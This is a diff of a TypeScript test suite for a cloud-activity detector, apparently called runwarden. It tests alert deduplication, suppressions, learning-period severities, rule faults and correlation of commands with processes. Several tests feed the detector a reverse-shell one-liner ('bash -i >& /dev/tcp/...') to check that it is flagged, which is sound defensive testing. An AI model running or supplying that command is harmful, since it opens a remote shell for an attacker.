@@ -5,7 +5,8 @@ import { DAY, MINUTE, SECOND } from '../../../shared/model/time'
 import { agentProcess, awsActivity, azureActivity, NOON } from '../../support/activity'
 import { testDetector } from '../../support/detector'
 
-const machines = (count: number): readonly string[] => Array.from({ length: count }, (_, place) => `i-${String(place).padStart(17, '0')}`)
+const machines = (count: number): readonly string[] =>
+  Array.from({ length: count }, (_, place) => `i-${String(place).padStart(17, '0')}`)
 const listed = (ids: readonly string[]) => ({ targets: { kind: 'listed', ids } as const })
 
 describe('processActivity', () => {
@@ -13,24 +14,44 @@ describe('processActivity', () => {
     const detector = testDetector()
     await processActivity(detector, awsActivity(), 'first')
     await processActivity(detector, awsActivity(), 'first')
-    expect(detector.alerts.map(({ title, severity }) => [title, severity])).toEqual([['First Seen Caller and 1 more by role/Deploy', 'medium']])
+    expect(detector.alerts.map(({ title, severity }) => [title, severity])).toEqual([
+      ['First Seen Caller and 1 more by role/Deploy', 'medium'],
+    ])
     expect(detector.metrics.RecordsDuplicate).toBe(1)
   })
 
   it('sends one alert when the same record is being judged twice at once', async () => {
     const sent: string[] = []
     let draws = 0
-    const slow = { name: 'slow', send: async ({ id }: { readonly id: string }) => void (await new Promise((resolve) => setTimeout(resolve, 20)), sent.push(id)) }
-    const clock = { now: () => 0, sleep: () => new Promise<void>((resolve) => void setTimeout(resolve, 1)), random: () => ++draws / 1_000 }
+    const slow = {
+      name: 'slow',
+      send: async ({ id }: { readonly id: string }) =>
+        void (await new Promise((resolve) => setTimeout(resolve, 20)), sent.push(id)),
+    }
+    const clock = {
+      now: () => 0,
+      sleep: () => new Promise<void>((resolve) => void setTimeout(resolve, 1)),
+      random: () => ++draws / 1_000,
+    }
     const detector = testDetector({}, { clock, sinks: [slow] })
-    await Promise.all([processActivity(detector, awsActivity(), 'first'), processActivity(detector, awsActivity(), 'first')])
+    await Promise.all([
+      processActivity(detector, awsActivity(), 'first'),
+      processActivity(detector, awsActivity(), 'first'),
+    ])
     expect(sent).toHaveLength(1)
   })
 
   it('sends again when the run that claimed the right to send is gone', async () => {
     const detector = testDetector()
     let draws = 0
-    const dying = { ...detector, ports: { ...detector.ports, clock: { ...detector.clock, random: () => ++draws / 1_000 }, sinks: [{ name: 'dying', send: () => new Promise<never>(() => {}) }] } }
+    const dying = {
+      ...detector,
+      ports: {
+        ...detector.ports,
+        clock: { ...detector.clock, random: () => ++draws / 1_000 },
+        sinks: [{ name: 'dying', send: () => new Promise<never>(() => {}) }],
+      },
+    }
     void processActivity(dying, awsActivity(), 'first')
     await new Promise((resolve) => setTimeout(resolve, 20))
     await processActivity(detector, awsActivity(), 'first')
@@ -78,7 +99,9 @@ describe('processActivity', () => {
   })
 
   it('learns from it once a suppression covers it', async () => {
-    const detector = testDetector({ suppressions: [{ reason: 'test range', until: NOON + DAY, rule: ['runwarden.cloud.suspicious-command'] }] })
+    const detector = testDetector({
+      suppressions: [{ reason: 'test range', until: NOON + DAY, rule: ['runwarden.cloud.suspicious-command'] }],
+    })
     const shell = { payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } as const }
     const first = await processActivity(detector, awsActivity(shell), 'first')
     expect(first?.teaches).toBe(true)
@@ -88,7 +111,9 @@ describe('processActivity', () => {
   it('makes novelty informational while learning, and nothing else', async () => {
     const detector = { ...testDetector({ learningDays: 7 }), learningStart: NOON - DAY }
     const verdict = await processActivity(detector, awsActivity(listed(machines(4))), 'first')
-    expect(Object.fromEntries(verdict!.findings.map(({ rule, severity }) => [rule.split('.').at(-1), severity]))).toEqual({
+    expect(
+      Object.fromEntries(verdict!.findings.map(({ rule, severity }) => [rule.split('.').at(-1), severity])),
+    ).toEqual({
       'first-seen-caller': 'informational',
       'first-seen-caller-on-target': 'informational',
       'mass-execution': 'medium',
@@ -105,7 +130,11 @@ describe('processActivity', () => {
     const detector = testDetector()
     const severities: (string | undefined)[] = []
     for (let day = 0; day < 5; day++) {
-      const verdict = await processActivity(detector, awsActivity({ id: `day-${day}`, at: NOON + day * DAY, ...listed(machines(4)) }), 'first')
+      const verdict = await processActivity(
+        detector,
+        awsActivity({ id: `day-${day}`, at: NOON + day * DAY, ...listed(machines(4)) }),
+        'first',
+      )
       severities.push(verdict?.findings.find(({ rule }) => rule.endsWith('mass-execution'))?.severity)
     }
     expect(severities).toEqual(['medium', 'medium', 'medium', 'low', 'low'])
@@ -132,7 +161,13 @@ describe('processActivity', () => {
 
   it('goes on when a rule throws, and reports the fault', async () => {
     const detector = testDetector()
-    const broken = { ...detector.rules[0]!, id: 'runwarden.cloud.broken', evaluate: () => { throw new Error('no') } }
+    const broken = {
+      ...detector.rules[0]!,
+      id: 'runwarden.cloud.broken',
+      evaluate: () => {
+        throw new Error('no')
+      },
+    }
     const verdict = await processActivity({ ...detector, rules: [broken, ...detector.rules] }, awsActivity(), 'first')
     expect(verdict?.faults).toEqual([{ rule: 'runwarden.cloud.broken', message: 'no' }])
     expect(verdict?.findings.length).toBeGreaterThan(0)
@@ -141,7 +176,13 @@ describe('processActivity', () => {
   it('tells that a rule threw, and counts it', async () => {
     const notices: string[] = []
     const detector = testDetector({}, { health: { notice: async (title) => void notices.push(title) } })
-    const broken = { ...detector.rules[0]!, id: 'runwarden.cloud.broken', evaluate: () => { throw new Error('no') } }
+    const broken = {
+      ...detector.rules[0]!,
+      id: 'runwarden.cloud.broken',
+      evaluate: () => {
+        throw new Error('no')
+      },
+    }
     await processActivity({ ...detector, rules: [broken, ...detector.rules] }, awsActivity(), 'first')
     expect([notices, detector.metrics.RuleFaults]).toEqual([['Rule runwarden.cloud.broken failed'], 1])
     expect(detector.alerts).toHaveLength(1)
@@ -150,11 +191,15 @@ describe('processActivity', () => {
 
 describe('without a store', () => {
   it('speaks of what needs no history, marks it, and asks for the record again', async () => {
-    const down = async (): Promise<never> => { throw new Error('down') }
+    const down = async (): Promise<never> => {
+      throw new Error('down')
+    }
     const detector = testDetector({}, { history: { recall: down, teach: down } })
     const shell = awsActivity({ payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } })
     await expect(processActivity(detector, shell, 'first')).rejects.toThrow('state store')
-    expect(detector.alerts.map(({ degraded, findings }) => [degraded, findings.map(({ rule }) => rule)])).toEqual([['history could not be read', ['runwarden.cloud.suspicious-command']]])
+    expect(detector.alerts.map(({ degraded, findings }) => [degraded, findings.map(({ rule }) => rule)])).toEqual([
+      ['history could not be read', ['runwarden.cloud.suspicious-command']],
+    ])
   })
 })
 
@@ -173,10 +218,18 @@ describe('commands and processes', () => {
 
   it('still name the script when the text is gone, so that no more than that script is silenced', async () => {
     const detector = testDetector()
-    await processActivity(detector, azureActivity({ payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } }), 'first')
+    await processActivity(
+      detector,
+      azureActivity({ payload: { kind: 'text', text: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' } }),
+      'first',
+    )
     await processActivity(detector, agentProcess(), 'first')
     const [first, update] = detector.alerts
-    expect(update?.command).toMatchObject({ text: null, hash: first?.command.hash, hidden: expect.stringContaining('not kept') })
+    expect(update?.command).toMatchObject({
+      text: null,
+      hash: first?.command.hash,
+      hidden: expect.stringContaining('not kept'),
+    })
     expect(JSON.parse(update?.silence ?? '')).toMatchObject({ scriptHash: first?.command.hash })
   })
 
@@ -194,7 +247,9 @@ describe('commands and processes', () => {
     await processActivity(detector, command, 'first')
     await processActivity(detector, agentProcess(), 'first')
     expect(detector.alerts).toEqual([])
-    expect(detector.verdicts.at(-1)?.verdict.findings.map(({ rule }) => rule)).toEqual(['runwarden.cloud.run-command-confirmed'])
+    expect(detector.verdicts.at(-1)?.verdict.findings.map(({ rule }) => rule)).toEqual([
+      'runwarden.cloud.run-command-confirmed',
+    ])
   })
 
   it('wait for the command until the grace time ends, and report the process then', async () => {
@@ -228,8 +283,11 @@ describe('commands and processes', () => {
     for (const order of ['command first', 'process first']) {
       const detector = testDetector()
       const process = agentProcess({ at: command.at + delay })
-      for (const activity of order === 'command first' ? [command, process] : [process, command]) await processActivity(detector, activity, 'first')
-      const rules = detector.verdicts.findLast(({ activity }) => activity.id === command.id)?.verdict.findings.map(({ rule }) => rule)
+      for (const activity of order === 'command first' ? [command, process] : [process, command])
+        await processActivity(detector, activity, 'first')
+      const rules = detector.verdicts
+        .findLast(({ activity }) => activity.id === command.id)
+        ?.verdict.findings.map(({ rule }) => rule)
       expect(rules?.includes('runwarden.cloud.run-command-confirmed')).toBe(confirmed)
     }
   })
@@ -247,10 +305,18 @@ describe('mails by the hour', () => {
     const detector = testDetector({ maxAlertsPerHour: 2 })
     for (const name of ['A', 'B', 'C', 'D']) await processActivity(detector, caller(name), 'first')
     await processActivity(detector, caller('Severe', true), 'first')
-    expect(detector.alerts.map(({ actor, kind }) => [actor.display, kind])).toEqual([['role/A', 'alert'], ['role/B', 'alert'], ['role/Severe', 'alert']])
+    expect(detector.alerts.map(({ actor, kind }) => [actor.display, kind])).toEqual([
+      ['role/A', 'alert'],
+      ['role/B', 'alert'],
+      ['role/Severe', 'alert'],
+    ])
     detector.clock.time += 60 * MINUTE
     await sweep(detector)
-    expect(detector.alerts.at(-1)).toMatchObject({ kind: 'digest', repeats: 2, activities: expect.arrayContaining(['by-C', 'by-D']) })
+    expect(detector.alerts.at(-1)).toMatchObject({
+      kind: 'digest',
+      repeats: 2,
+      activities: expect.arrayContaining(['by-C', 'by-D']),
+    })
     expect(await sweep(detector)).toBe(0)
   })
 })
